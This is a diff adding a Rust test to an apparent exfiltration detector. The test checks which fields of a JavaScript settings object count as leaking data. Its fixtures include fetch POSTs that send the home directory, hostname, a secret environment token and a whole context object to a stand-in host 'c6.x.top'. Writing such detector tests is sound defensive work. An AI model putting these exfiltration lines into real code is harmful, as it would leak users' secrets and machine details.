@@ -2489,3 +2489,65 @@ fn requests_to_this_machine_send_nothing_off_it() {
     let f = run("fetch('http://10.0.0.5/x', { method: 'POST', body: require('os').hostname() });");
     assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
 }
+
+/// A named part of a container (`ctx.apiURL`, `settings.get("url")`, `auth.getHeaders(cfg)`)
+/// carries the container's data but not the places it was told to work in: a settings store
+/// opened in the working directory does not put the directory into the URL read out of it
+/// (amp's `n.get("url")` over a store made with `process.cwd()`). A part named for a place
+/// (`ctx.home`, `get("workspaceRoot")`), a secret or a host name kept in the container, and
+/// the container sent whole, still flow.
+#[test]
+fn a_named_part_of_a_container_does_not_carry_where_it_was_opened() {
+    let program = |sends: &str| {
+        format!(
+            r#"const os = require("os");
+            async function openSettings(cwd) {{ return loadStore({{ cwd, file: ".acme/settings.json" }}); }}
+            async function context() {{
+              const n = await openSettings(process.cwd());
+              const s = await n.get("url");
+              return {{ apiURL: s, settings: n, home: os.homedir(), host: os.hostname(), token: process.env.ACME_SECRET_TOKEN }};
+            }}
+            async function main() {{ const k = await context(); {sends} }}"#
+        )
+    };
+    let f = run(&program(
+        r#"await fetch(`${k.apiURL}/api/threads`, { method: "POST", body: "{}" });
+           const key = await k.settings.get("apiKey");
+           await fetch("https://api.acme-tools.dev/v1/x", { method: "POST", body: JSON.stringify({ key }) });
+           const auth = await k.auth.getAuthHeaders(k.settings);
+           await fetch("https://api.acme-tools.dev/v1/y", { method: "POST", headers: auth, body: k["apiURL"] });
+           const draft = await k.settings.consumeDraft();
+           await fetch("https://api.acme-tools.dev/v1/z", { method: "POST", body: JSON.stringify({ draft }) });"#,
+    ));
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    // Also once the object has fields of its own (a write to one makes its reads by field).
+    let f = run(&program(
+        r#"k.checked = true; await fetch(`${k.apiURL}/api/threads`, { method: "POST", body: "{}" });"#,
+    ));
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    let sent = |sends: &str| {
+        let f = run(&program(sends));
+        f.flows.iter().fold(Kinds::EMPTY, |k, fl| k.union(fl.kinds))
+    };
+    let k = sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: k.home });"#);
+    assert!(k.contains(DataKind::HomeDir), "{k:?}");
+    let k = sent(
+        r#"await fetch("https://c6.x.top/a", { method: "POST", body: await k.settings.get("workspaceRoot") });"#,
+    );
+    assert!(k.contains(DataKind::WorkingDirectory), "{k:?}");
+    let k =
+        sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: [k.home].join(",") });"#);
+    assert!(k.contains(DataKind::HomeDir), "{k:?}");
+    let k =
+        sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: k.host + k.token });"#);
+    assert!(
+        k.contains(DataKind::Hostname) && k.contains(DataKind::SecretEnv),
+        "{k:?}"
+    );
+    let k =
+        sent(r#"await fetch("https://c6.x.top/a", { method: "POST", body: JSON.stringify(k) });"#);
+    assert!(
+        k.contains(DataKind::WorkingDirectory) && k.contains(DataKind::HomeDir),
+        "{k:?}"
+    );
+}
